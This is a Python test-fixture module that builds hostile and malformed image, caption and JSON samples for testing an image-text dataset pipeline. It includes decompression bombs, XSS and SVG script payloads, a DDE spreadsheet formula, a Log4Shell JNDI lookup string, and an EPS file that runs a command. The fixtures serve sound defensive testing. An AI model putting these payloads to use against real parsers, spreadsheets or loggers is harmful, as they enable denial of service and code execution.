"""Hostile and odd images, captions and metadata of single samples, each with its truth: the problem it has, or none.

A pool of them is one tar per kind, in img2dataset's layout; healthy samples stand beside them.
"""

from __future__ import annotations

import io
import json
import struct
import zlib
from dataclasses import dataclass
from functools import cache

import numpy as np
from PIL import Image

from tests.corpus import Shard

CAPTION = b"a picture of a coloured square"
UNREADABLE, TOO_LARGE, BAD, NO_CAPTION = "unreadable_image", "image_too_large", "bad_metadata", "missing_caption"


@dataclass(frozen=True)
class Sample:
    """One sample of a tar: its members, and its truth.

    Attributes:
        problem: of the row; None where it is sound.
        bomb: whether dropping it must take less than a second and a gibibyte.
    """

    key: str
    image: bytes
    problem: str | None = None
    txt: bytes | None = CAPTION
    json: bytes | None = None
    bomb: bool = False


def picture(width: int, height: int, mode: str = "RGB") -> Image.Image:
    """A smooth coloured picture, so that JPEG keeps it."""
    y, x = np.mgrid[0:height, 0:width]
    rgb = np.stack([x * 255 // max(1, width - 1), y * 255 // max(1, height - 1), (x + y) % 256], axis=-1)
    return Image.fromarray(rgb.astype(np.uint8)).convert(mode)


def stored(image: Image.Image, kind: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, bits: int = 1, body: bytes = b"", extra: bytes = b"") -> bytes:
    """A PNG whose header says what it likes."""
    header = struct.pack(">IIBBBBB", width, height, bits, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + extra + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def black_png(side: int) -> bytes:
    """A valid 1-bit PNG of side x side px, some kB long."""
    squeeze = zlib.compressobj(1)
    row = bytes(1 + (side + 7) // 8)
    return png(side, side, 1, b"".join(squeeze.compress(row) for _ in range(side)) + squeeze.flush())


def segments(marker: int, count: int) -> bytes:
    """So many full application segments of a JPEG."""
    return (b"\xff" + bytes([marker]) + b"\xff\xff" + bytes(65_533)) * count


JPEG = stored(picture(40, 30), "JPEG")
PNG = stored(picture(40, 30), "PNG")
WEBP = stored(picture(40, 30), "WEBP")
GIF = stored(picture(40, 30), "GIF")


def jpeg_with_size(width: int, height: int) -> bytes:
    """A small JPEG whose frame header states another size."""
    at = JPEG.index(b"\xff\xc0")
    return JPEG[: at + 5] + struct.pack(">HH", height, width) + JPEG[at + 9 :]


def scan_bomb(side: int, scans: int) -> bytes:
    """A progressive JPEG that repeats its last scan."""
    data = stored(Image.new("RGB", (side, side)), "JPEG", progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * scans + data[-2:]


def sound_images() -> list[Sample]:
    """Odd, and decodable."""
    rotated = Image.Exif()
    rotated[0x0112] = 6
    frames = [picture(40, 30, "L").convert("RGB")]
    images = {
        "jpeg": JPEG,
        "jpeg-progressive": stored(picture(40, 30), "JPEG", progressive=True),
        "jpeg-grey": stored(picture(40, 30, "L"), "JPEG"),
        "jpeg-cmyk-adobe": stored(picture(40, 30, "CMYK"), "JPEG"),
        "jpeg-rotated": stored(picture(40, 30), "JPEG", exif=rotated),
        "jpeg-1x1": stored(picture(1, 1), "JPEG"),
        "jpeg-1x60000": stored(Image.new("RGB", (1, 60_000)), "JPEG"),
        "jpeg-trailing-script": JPEG + b"<script>parent.pwned=1</script>",
        "png": PNG,
        "png-16-bit": stored(Image.fromarray(np.arange(1200, dtype=np.uint16).reshape(30, 40) * 50), "PNG"),
        "png-palette-alpha": stored(picture(40, 30, "P"), "PNG", transparency=bytes(range(256))),
        "png-alpha": stored(picture(40, 30, "RGBA"), "PNG"),
        "png-1-bit": stored(picture(40, 30, "1"), "PNG"),
        "webp": WEBP,
        "webp-animated": stored(picture(40, 30), "WEBP", save_all=True, append_images=frames),
        "gif": GIF,
        "gif-animated": stored(picture(40, 30), "GIF", save_all=True, append_images=frames),
        "gif-and-script": stored(picture(40, 30), "GIF", comment=b"*/=1;alert(1)/*"),
    }
    return [Sample(key, image) for key, image in images.items()]


def damaged_images() -> list[Sample]:
    """Neither decoded nor passed to another of Pillow's formats."""
    images = {
        "nothing": b"",
        "html": b"<html>404</html>",
        "jpeg-magic-only": b"\xff\xd8\xff",
        "jpeg-cut": JPEG[: len(JPEG) // 2],
        "jpeg-0x0": jpeg_with_size(0, 0),
        "png-cut": PNG[: len(PNG) // 2],
        "png-0x0": png(0, 0),
        "png-wrong-checksum": PNG[:29] + bytes(4) + PNG[33:],
        "webp-cut": WEBP[: len(WEBP) // 2],
        "gif-cut": GIF[: len(GIF) // 2],
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(touch canary) run\nshowpage\n",
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>alert(1)</script></svg>",
        "fits": b"SIMPLE  =                    T".ljust(2880) + bytes(2880),
        "psd": b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 9, 9, 8, 3) + bytes(60),
        "avif": struct.pack(">I", 28) + b"ftypavif" + bytes(4) + b"avifmif1miaf",
        "bmp": stored(picture(4, 4), "BMP"),
        "tiff": stored(picture(4, 4), "TIFF"),
        "ico": stored(picture(16, 16), "ICO"),
    }
    return [Sample(key, image, UNREADABLE) for key, image in images.items()]


@cache
def bombs() -> list[Sample]:
    """Small images that are costly for whoever decodes before looking."""
    packed = zlib.compress(bytes(64 << 20), 9)
    found = {
        "png-13000x13000-1-bit": (black_png(13_000), TOO_LARGE),
        "png-20000x20000-declared": (png(20_000, 20_000), TOO_LARGE),
        "png-2-31": (png(2**31 - 1, 2**31 - 1), TOO_LARGE),
        "jpeg-65500x65500-declared": (jpeg_with_size(65_500, 65_500), TOO_LARGE),
        "jpeg-of-8000-scans": (scan_bomb(512, 8_000), TOO_LARGE),
        "gif-65535x65535-declared": (GIF[:6] + struct.pack("<HH", 65_535, 65_535) + GIF[10:], TOO_LARGE),
        "webp-9000x9000": (stored(Image.new("RGB", (9_000, 9_000)), "WEBP", quality=1, method=0), TOO_LARGE),
        "png-text-of-64-mb": (png(8, 8, 8, extra=chunk(b"zTXt", b"a\0\0" + packed)), UNREADABLE),
        "png-profile-of-64-mb": (PNG[:33] + chunk(b"iCCP", b"p\0\0" + packed) + PNG[33:], UNREADABLE),
        "jpeg-64-mb-of-xmp": (JPEG[:2] + segments(0xE1, 1_024) + JPEG[2:], TOO_LARGE),
    }
    return [Sample(key, image, problem, bomb=True) for key, (image, problem) in found.items()]


def texts() -> list[Sample]:
    """Captions and .json members; the image of each is its own, so that no two samples are the same pair."""
    odd = {
        "rtl-and-zero-width": "\u202eevil\u202c a\u200bb\u2066c".encode(),
        "script": b"<script>document.title='pwned'</script><img src=x onerror=alert(1)>",
        "formula": b"=cmd|' /C calc'!A0",
        "nul": b"a\0b",
        "one-line-of-100-kb": b"word " * 20_000,
        "emoji-flags": "\U0001f1f5\U0001f1f1 \U0001f468\u200d\U0001f469\u200d\U0001f467".encode(),
        "template": b"{{7*7}} ${jndi:ldap://x/a} %s {0}",
    }
    bad = {"not-utf8": b"caf\xe9", "surrogate-bytes": b"a\xed\xa0\x80b", "10-mb": b"x" * 10_000_000}
    fields = {
        "json-lone-surrogate": (rb'{"caption": "a\ud800b", "n": 1}', None),
        "json-nul": (rb'{"caption": "a\u0000b"}', None),
        "json-duplicate-keys": (b'{"caption": "first", "caption": "second"}', None),
        "json-mixed-types": (b'{"caption": "x", "width": "wide", "similarity": [1, "2"], "url": {"a": 1}}', None),
        "json-negative-size": (b'{"caption": "x", "width": -5, "height": 1e99}', None),
        "json-huge-int": (b'{"caption": "x", "n": 123456789012345678901234567890}', None),
        "json-2000-fields": (json.dumps({f"f{i}": i for i in range(2000)}).encode(), None),
        "json-nan": (b'{"score": NaN}', BAD),
        "json-infinity": (b'{"score": -Infinity}', BAD),
        "json-1e999": (b'{"score": 1e999}', BAD),
        "json-list": (b"[1]", BAD),
        "json-string": (b'"text"', BAD),
        "json-cut": (b'{"caption": ', BAD),
        "json-100000-deep": (b'{"deep": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", BAD),
        "json-65-deep": (b'{"deep": ' + b"[" * 65 + b"]" * 65 + b"}", BAD),
        "json-5000-digits": (b'{"n": ' + b"9" * 5_000 + b"}", BAD),
        "json-2-mb": (b'{"a": "' + b"x" * 2_000_000 + b'"}', BAD),
        "json-not-utf8": (b'{"a": "\xff"}', BAD),
        "json-utf16": ('{"a": 1}'.encode("utf-16"), BAD),
    }
    blank = {"blank": b" \n\t", "empty": b"", "no-break-space": "\u00a0".encode()}
    samples = [
        *((key, None, txt, None) for key, txt in odd.items()),
        *((key, BAD, txt, None) for key, txt in bad.items()),
        *((key, NO_CAPTION, txt, None) for key, txt in blank.items()),
        *((key, problem, CAPTION, meta) for key, (meta, problem) in fields.items()),
    ]
    images = (stored(picture(8 + number, 8), "PNG") for number in range(len(samples)))
    return [
        Sample(key, image, problem, txt, meta) for image, (key, problem, txt, meta) in zip(images, samples, strict=True)
    ]


def tar_of(samples: list[Sample]) -> bytes:
    """The samples as a shard; what an image is called does not tell what it is."""
    shard = Shard()
    for sample in samples:
        members = {"jpg": sample.image, "txt": sample.txt, "json": sample.json}
        for suffix, data in members.items():
            if data is not None:
                shard.add(f"{sample.key}.{suffix}", data)
    return shard.closed()


KINDS = {"sound": sound_images, "damaged": damaged_images, "bombs": bombs, "texts": texts}
